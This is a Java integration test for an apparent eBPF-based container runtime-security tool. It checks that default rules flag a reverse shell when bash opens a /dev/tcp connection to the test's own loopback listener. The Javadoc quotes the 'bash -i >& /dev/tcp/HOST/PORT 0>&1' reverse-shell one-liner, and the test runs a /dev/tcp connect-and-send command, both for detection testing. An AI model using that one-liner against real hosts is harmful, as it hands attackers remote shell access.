package dev.containersec.runtime.source;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.containersec.api.Alert;
import dev.containersec.api.EventBatch;
import dev.containersec.api.EventStream;
import dev.containersec.api.NetworkConnectEvent;
import dev.containersec.api.RuntimeEvent;
import dev.containersec.runtime.DefaultRules;
import dev.containersec.runtime.EventSourceRegistry;
import dev.containersec.runtime.RuleEngine;
import dev.containersec.runtime.RuleSet;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * A reverse-shell shape on the real kernel, on loopback only: bash connects to a listener of this test
 * through its /dev/tcp redirection and writes to it, as {@code bash -i >& /dev/tcp/HOST/PORT 0>&1}
 * does (without handing over an interactive shell). The bundled default rules must raise both reverse
 * shell alerts from what the ebpf source reported. Needs root; skipped only when not root.
 */
class ReverseShellIT {

    @Test
    @Timeout(value = 90, unit = TimeUnit.SECONDS)
    void bashDevTcpToALocalListener_raisesTheDefaultReverseShellRules() throws Exception {
        assumeTrue(Files.readAllLines(Path.of("/proc/self/status")).stream().filter(l -> l.startsWith("Uid:"))
                .anyMatch(l -> l.substring(4).trim().split("\\s+")[1].equals("0")), "the ebpf source needs root");
        List<RuntimeEvent> seen = new CopyOnWriteArrayList<>();
        try (EventStream stream = EventSourceRegistry.fromServiceLoader().get("ebpf").open(Map.of());
             ServerSocket server = new ServerSocket()) {
            Thread reader = new Thread(() -> {
                while (true) {
                    EventBatch batch = stream.nextBatch(Duration.ofMillis(200));
                    if (batch instanceof EventBatch.Events events) {
                        events.events().stream().filter(e -> e.process().comm().equals("bash")).forEach(seen::add);
                    } else if (!(batch instanceof EventBatch.Timeout)) {
                        return;
                    }
                }
            }, "it-reader");
            reader.setDaemon(true);
            reader.start();
            server.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
            int port = server.getLocalPort();
            Process bash = new ProcessBuilder("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + port
                    + "; echo uid=$(id -u) >&3; exec 3>&-").redirectErrorStream(true).start();
            String received;
            try (Socket s = server.accept(); InputStream in = s.getInputStream()) {
                received = new String(in.readAllBytes(), StandardCharsets.UTF_8).trim();
            }
            assertThat(bash.waitFor(10, TimeUnit.SECONDS)).isTrue();
            assertThat(received).isEqualTo("uid=0");
            long pid = bash.pid();
            long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
            while (seen.stream().noneMatch(e -> e instanceof NetworkConnectEvent c && c.remote().port() == port)
                    && System.nanoTime() < deadline) {
                Thread.sleep(100);
            }
            RuleSet rules = RuleEngine.builder().build().load(List.of(DefaultRules.source()));
            List<Alert> alerts = new ArrayList<>();
            for (RuntimeEvent e : seen) {
                if (e.process().pid() == pid) {
                    alerts.addAll(rules.evaluate(e));
                }
            }
            assertThat(alerts).extracting(Alert::rule).contains("Reverse shell command",
                    "Shell opened a network connection");
            Alert connect = alerts.stream().filter(a -> a.rule().equals("Shell opened a network connection"))
                    .findFirst().orElseThrow();
            assertThat(connect.output()).contains("proc=bash").contains("127.0.0.1:" + port);
        }
    }
}
